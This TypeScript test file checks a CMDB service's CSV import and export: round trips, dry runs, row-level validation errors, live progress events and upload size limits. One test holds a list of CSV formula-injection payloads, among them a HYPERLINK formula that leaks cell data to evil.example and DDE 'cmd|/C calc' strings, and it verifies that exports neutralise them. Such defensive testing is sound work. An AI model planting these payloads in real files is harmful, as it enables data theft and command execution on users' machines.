import t from 'tap'
import WebSocket from 'ws'
import { parse } from 'csv-parse/sync'
import type { TestKernel } from '@monozu/kernel/testing'
import { appliancePlugins, client, discover, enrolAppliance, licensedTenant, startCmdb, type Client } from './helpers.ts'

const MAX_BYTES = 512 * 1024
let k: TestKernel
t.before(async () => { k = await startCmdb({ plugins: appliancePlugins, pluginConfig: { cmdb: { maxImportBytes: MAX_BYTES } } }) })
t.teardown(() => k?.close())

const upload = (api: Client, csv: string, query = '') => api.send('POST', `/api/v1/cmdb/import${query}`, csv, 'text/csv; charset=utf-8')

async function estate (api: Client): Promise<{ host: string }> {
  const type = await api.post('/api/v1/cmdb/types', {
    key: 'printer', label: 'Printer',
    fields: [
      { key: 'assetTag', label: 'Asset tag', kind: 'text', required: true },
      { key: 'pages', label: 'Pages', kind: 'integer', min: 0 },
      { key: 'colour', label: 'Colour', kind: 'boolean' },
      { key: 'installed', label: 'Installed', kind: 'date' },
      { key: 'manual', label: 'Manual', kind: 'url' },
      { key: 'toner', label: 'Toner', kind: 'select', choices: ['ok', 'low'] },
      { key: 'server', label: 'Print server', kind: 'reference', refType: 'server' }
    ]
  })
  if (type.status !== 201) throw new Error(JSON.stringify(type.body))
  const host = (await api.post('/api/v1/cmdb/cis', { type: 'server', name: 'print-srv', serial: 'PS-1', macs: ['aa:bb:cc:dd:ee:01', 'aa:bb:cc:dd:ee:02'], cpuCores: 4, warrantyEnd: '2027-01-31', description: 'Line one\nline two, with "quotes"' })).body.id
  await api.post('/api/v1/cmdb/cis', { type: 'printer', name: 'prn-1', assetTag: 'AT-1', pages: 10, colour: true, installed: '2024-01-02', manual: 'https://x.example/m?a=1,2', toner: 'ok', server: host, site: 'WAW' })
  await api.post('/api/v1/cmdb/cis', { type: 'printer', name: 'prn-2', assetTag: 'AT-2', colour: false, status: 'retired' })
  await api.post('/api/v1/cmdb/cis', { type: 'vm', name: '=cmd|calc', os: ' spaced ' })
  return { host }
}

t.test('export then import of the same file changes nothing', async t => {
  const { admin } = await licensedTenant(k)
  const api = client(k, admin)
  await estate(api)
  const exported = await api.get('/api/v1/cmdb/export')
  t.equal(exported.status, 200)
  t.match(exported.headers['content-type'], /text\/csv/)
  const csv = exported.raw.body
  const rows = parse(csv) as string[][]
  t.same(rows[0]!.slice(0, 10), ['id', 'type', 'name', 'status', 'site', 'description', 'hostname', 'serial', 'hardwareUuid', 'macs'])
  t.ok(rows[0]!.includes('assetTag') && rows[0]!.includes('cpuCores'), 'custom and type fields are columns')
  t.equal(rows.length, 5)

  const printers = parse((await api.get('/api/v1/cmdb/export?type=printer&sort=-name')).raw.body, { columns: true }) as Array<Record<string, string>>
  t.same(printers.map(p => p.name), ['prn-2', 'prn-1'], 'any filtered list exports')
  t.match(printers[1], { assetTag: 'AT-1', pages: '10', colour: 'true', installed: '2024-01-02', toner: 'ok', manual: 'https://x.example/m?a=1,2' })
  t.notOk('cpuCores' in printers[0]!, 'a one-type export has that type\'s columns only')

  const before = (await api.get('/api/v1/cmdb/cis?limit=200')).body.items
  const dry = await upload(api, csv, '?dryRun=true')
  t.equal(dry.status, 200, JSON.stringify(dry.body))
  t.match(dry.body, { dryRun: true, applied: false, rows: 4, created: 0, updated: 0, unchanged: 4, errorCount: 0, errors: [], changes: [] })
  const real = await upload(api, csv)
  t.match(real.body, { dryRun: false, applied: true, rows: 4, created: 0, updated: 0, unchanged: 4 })
  t.same((await api.get('/api/v1/cmdb/cis?limit=200')).body.items, before, 'every CI is exactly as before (versions too)')
  t.equal((await api.get(`/api/v1/cmdb/changes?requestId=${real.body.importId}`)).body.items.length, 0, 'nothing logged')
})

// Values a spreadsheet would run as formulas (OWASP CSV Injection), and values that look like
// the escape itself: an export must neutralise the first and give every one back on import.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\uFF1D1+1',
  "'=x",
  "''+y",
  '-5',
  "'just an apostrophe"
]
const escaped = (v: string) => /^'*[=+\-@\uFF1D]/.test(v)

t.test('an export neutralises formula cells from users and appliances; importing it gives every value back', async t => {
  const { tenant, admin } = await licensedTenant(k)
  const api = client(k, admin)
  const type = await api.post('/api/v1/cmdb/types', { key: 'ledger', label: 'Ledger', fields: [{ key: 'memo', label: 'Memo', kind: 'text' }, { key: 'delta', label: 'Delta', kind: 'integer' }] })
  t.equal(type.status, 201)
  for (const [i, v] of HOSTILE.entries()) {
    const made = await api.post('/api/v1/cmdb/cis', { type: 'ledger', name: v, memo: v, description: `${v} (description)`, site: v.slice(0, 100), delta: -5 - i })
    t.equal(made.status, 201, JSON.stringify(made.body))
  }
  // A compromised appliance reports hostile text in the fields it discovers.
  await discover(k, await enrolAppliance(k, admin), tenant, [
    { source: 'agent', ciType: 'server', serial: '-sn-evil', fields: { os: '=cmd|\' /C calc\'!A0', manufacturer: '@evil', osVersion: '+1' } }
  ])

  const raw = (await api.get('/api/v1/cmdb/export')).raw.body
  const rows = parse(raw, { columns: true }) as Array<Record<string, string>>
  const ledgers = rows.filter(r => r.type === 'ledger')
  t.equal(ledgers.length, HOSTILE.length)
  for (const v of HOSTILE) {
    const row = ledgers.find(r => r.memo === (escaped(v) ? `'${v}` : v))
    t.ok(row, `memo ${JSON.stringify(v)} is written ${escaped(v) ? 'with one apostrophe before it' : 'as it is'}`)
    t.equal(row?.name, escaped(v) ? `'${v}` : v, 'the name too')
  }
  t.ok(ledgers.every(r => /^-\d+$/.test(r.delta ?? '')), 'a negative number stays a number')
  const server = rows.find(r => r.type === 'server')
  t.match(server, { name: "'-SN-EVIL", serial: "'-SN-EVIL", os: "'=cmd|' /C calc'!A0", manufacturer: "'@evil", osVersion: "'+1" }, 'values an appliance sent are neutralised too')
  t.ok(raw.includes('"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"'), 'every cell is double-quoted, inner quotes doubled')
  t.notOk(/(^|,)[=+\-@]/m.test(raw), 'no cell in the file begins with a formula character')

  // Round trip: into a new tenant (without the ids), every value arrives exactly as it was.
  const other = await licensedTenant(k)
  const otherApi = client(k, other.admin)
  t.equal((await otherApi.post('/api/v1/cmdb/types', { key: 'ledger', label: 'Ledger', fields: [{ key: 'memo', label: 'Memo', kind: 'text' }, { key: 'delta', label: 'Delta', kind: 'integer' }] })).status, 201)
  const withoutIds = raw.split('\r\n').map(line => line.replace(/^"[^"]*",/, '')).join('\r\n')
  const imported = await upload(otherApi, withoutIds)
  t.match(imported.body, { applied: true, created: HOSTILE.length + 1 }, JSON.stringify(imported.body.errors ?? []))
  const fields = ['type', 'name', 'status', 'site', 'description', 'hostname', 'serial', 'memo', 'delta', 'os', 'manufacturer', 'osVersion']
  const pick = (ci: Record<string, unknown>) => Object.fromEntries(fields.filter(f => ci[f] !== undefined).map(f => [f, ci[f]]))
  const mine = (await api.get('/api/v1/cmdb/cis?limit=200')).body.items.map(pick)
  t.same((await otherApi.get('/api/v1/cmdb/cis?limit=200')).body.items.map(pick), mine, 'the same CIs, every field exactly the same')

  // And into the same tenant, with the ids: nothing changes.
  const again = await upload(api, raw)
  t.match(again.body, { applied: true, created: 0, updated: 0, unchanged: HOSTILE.length + 1 })
})

t.test('an import creates and updates; dry run shows what would change without changing it', async t => {
  const { admin } = await licensedTenant(k)
  const api = client(k, admin)
  const { host } = await estate(api)
  const csv = [
    'type,name,status,cpuCores,macs,assetTag,server',
    'server,print-srv,active,8,AA-BB-CC-DD-EE-02 aa:bb:cc:dd:ee:01,,',
    `printer,prn-3,,,,AT-3,${host}`,
    'vm,"new, vm",planned,2,,,'
  ].join('\r\n')
  const dry = await upload(api, csv, '?dryRun=true')
  t.match(dry.body, { rows: 3, created: 2, updated: 1, unchanged: 0, errorCount: 0 })
  t.match(dry.body.changes[0], { row: 2, action: 'update', id: host, changes: { cpuCores: { from: 4, to: 8 } } })
  t.notOk('macs' in dry.body.changes[0].changes, 'the same MACs written another way are no change')
  t.match(dry.body.changes[1], { row: 3, action: 'create', type: 'printer', name: 'prn-3' })
  t.equal((await api.get(`/api/v1/cmdb/cis/${host}`)).body.cpuCores, 4, 'a dry run changes nothing')

  const applied = await upload(api, csv, '?message=quarterly%20sync')
  t.match(applied.body, { applied: true, created: 2, updated: 1 })
  t.equal((await api.get(`/api/v1/cmdb/cis/${host}`)).body.cpuCores, 8)
  const prn3 = (await api.get('/api/v1/cmdb/cis?type=printer&q=prn-3')).body.items[0]
  t.match(prn3, { status: 'active', assetTag: 'AT-3', server: host })
  const log = (await api.get(`/api/v1/cmdb/changes?requestId=${applied.body.importId}`)).body.items
  t.equal(log.length, 3, 'one request id groups the import')
  t.ok(log.every((c: { actor: { kind: string }, message: string }) => c.actor.kind === 'import' && c.message === 'quarterly sync'))
  t.match((await api.get(`/api/v1/cmdb/cis/${host}`)).body.provenance.cpuCores, { by: 'import' })

  // emptyCells=keep leaves fields alone where the cell is empty; clear (default) clears them.
  t.match((await upload(api, 'type,name,cpuCores\nserver,print-srv,', '?emptyCells=keep')).body, { unchanged: 1 })
  t.match((await upload(api, 'type,name,cpuCores\nserver,print-srv,')).body, { updated: 1 })
  t.notOk('cpuCores' in (await api.get(`/api/v1/cmdb/cis/${host}`)).body)
})

t.test('a file with bad rows: every error reported by row and column; nothing applied', async t => {
  const { admin } = await licensedTenant(k)
  const api = client(k, admin)
  await estate(api)
  const csv = [
    'id,type,name,pages,colour,assetTag,toner',
    ',printer,good-1,5,true,AT-9,ok',
    ',printer,bad-1,-3,maybe,,purple',
    ',router,bad-2,,,,',
    '00000000-0000-4000-8000-000000000000,printer,bad-3,,,AT-5,',
    'not-an-id,printer,bad-4,,,AT-6,',
    ',printer,good-1,,,AT-10,',
    ',printer,,,,AT-11,'
  ].join('\n')
  const dry = await upload(api, csv, '?dryRun=true')
  t.equal(dry.status, 200)
  t.equal(dry.body.created, 1)
  const where = dry.body.errors.map((e: { pointer: string }) => e.pointer)
  t.same(where, ['/rows/3/pages', '/rows/3/colour', '/rows/3/assetTag', '/rows/3/toner', '/rows/4/type', '/rows/5/id', '/rows/6/id', '/rows/7/name', '/rows/8/name'])
  t.match(dry.body.errors.find((e: { pointer: string }) => e.pointer === '/rows/7/name'), { message: /row 2/ })
  t.ok(dry.body.errors.every((e: { in: string, message: string, rule: string }) => e.in === 'csv' && e.message && e.rule))

  const real = await upload(api, csv)
  t.equal(real.status, 400)
  t.equal(real.body.code, 'validation_failed')
  t.equal(real.body.errorCount, 9)
  t.same((await api.get('/api/v1/cmdb/cis?q=good')).body.items, [], 'all or nothing: the good row was not applied either')

  const header = await upload(api, 'type,name,colour,favouriteColour\nprinter,x,,')
  t.equal(header.status, 400)
  t.match(header.body.errors, [{ pointer: '/header/3', rule: 'unknown_field' }])
  t.equal((await upload(api, 'name\nx')).body.errors[0].message, 'the column "type" is missing')
  t.equal((await upload(api, 'type,name\n"unclosed,x\n')).body.code, 'validation_failed', 'broken CSV is a 400, not a 500')
  t.equal((await upload(api, '')).status, 400)
  const nul = await upload(api, 'type,name\nvm,nul-\u0000-vm\n')
  t.match(nul, { status: 400, body: { code: 'validation_failed', errors: [{ in: 'body', message: /NUL/ }] } }, 'a NUL byte in a cell is a 400, not a database error')
  t.equal((await api.get('/api/v1/cmdb/cis?q=nul-')).body.items.length, 0)
  t.equal((await api.post('/api/v1/cmdb/import', { type: 'server' })).status, 415)
})

t.test('large files stream through in chunks, report progress live, and are bounded', async t => {
  const { tenant, admin } = await licensedTenant(k)
  const api = client(k, admin)
  const url = (await k.app.listen({ port: 0, host: '127.0.0.1' })).replace('http', 'ws')
  const ws = new WebSocket(`${url}/api/ws/cmdb`, ['bearer', admin])
  const events: Array<{ event: string, data: Record<string, unknown> }> = []
  ws.on('message', raw => events.push(JSON.parse(raw.toString())))
  await new Promise((resolve, reject) => { ws.on('open', resolve); ws.on('error', reject) })

  const lines = ['type,name,site,cpuCores,os']
  for (let i = 0; i < 6000; i++) lines.push(`vm,vm-${String(i).padStart(5, '0')},WAW,${1 + (i % 16)},Linux`)
  const csv = lines.join('\n')
  t.ok(csv.length < MAX_BYTES && csv.length > 100_000, `${csv.length} bytes`)
  const done = await upload(api, csv)
  t.match(done.body, { applied: true, rows: 6000, created: 6000, truncated: true })
  t.equal(done.body.changes.length, 1000, 'details are capped; the counts are complete')
  const sixteen = parse((await api.get('/api/v1/cmdb/export?f.cpuCores=16')).raw.body, { columns: true }) as Array<{ cpuCores: string }>
  t.equal(sixteen.length, 375)
  t.ok(sixteen.every(r => r.cpuCores === '16'))
  await new Promise(resolve => setTimeout(resolve, 200))
  const phases = events.filter(e => e.event === 'import.progress' && e.data.importId === done.body.importId).map(e => e.data.phase)
  t.ok(phases.includes('checked') && phases.includes('applying'), `progress seen: ${[...new Set(phases)].join(', ')}`)
  t.equal(phases[phases.length - 1], 'done')
  t.ok(events.some(e => e.event === 'cis.changed' && e.data.created === 6000))
  const one = (await api.post('/api/v1/cmdb/cis', { type: 'server', name: 'live-1' })).body
  await new Promise(resolve => setTimeout(resolve, 200))
  t.ok(events.some(e => e.event === 'ci.created' && e.data.id === one.id && e.data.name === 'live-1'), 'single changes are live too')
  ws.close()

  const big = 'type,name\n' + 'vm,x\n'.repeat(MAX_BYTES / 5)
  const refused = await upload(api, big)
  t.equal(refused.status, 413)
  t.equal(refused.body.code, 'payload_too_large')
  t.equal((await api.get(`/api/v1/cmdb/cis?q=x&type=vm`)).body.items.length, 0)
  t.ok(tenant)
})
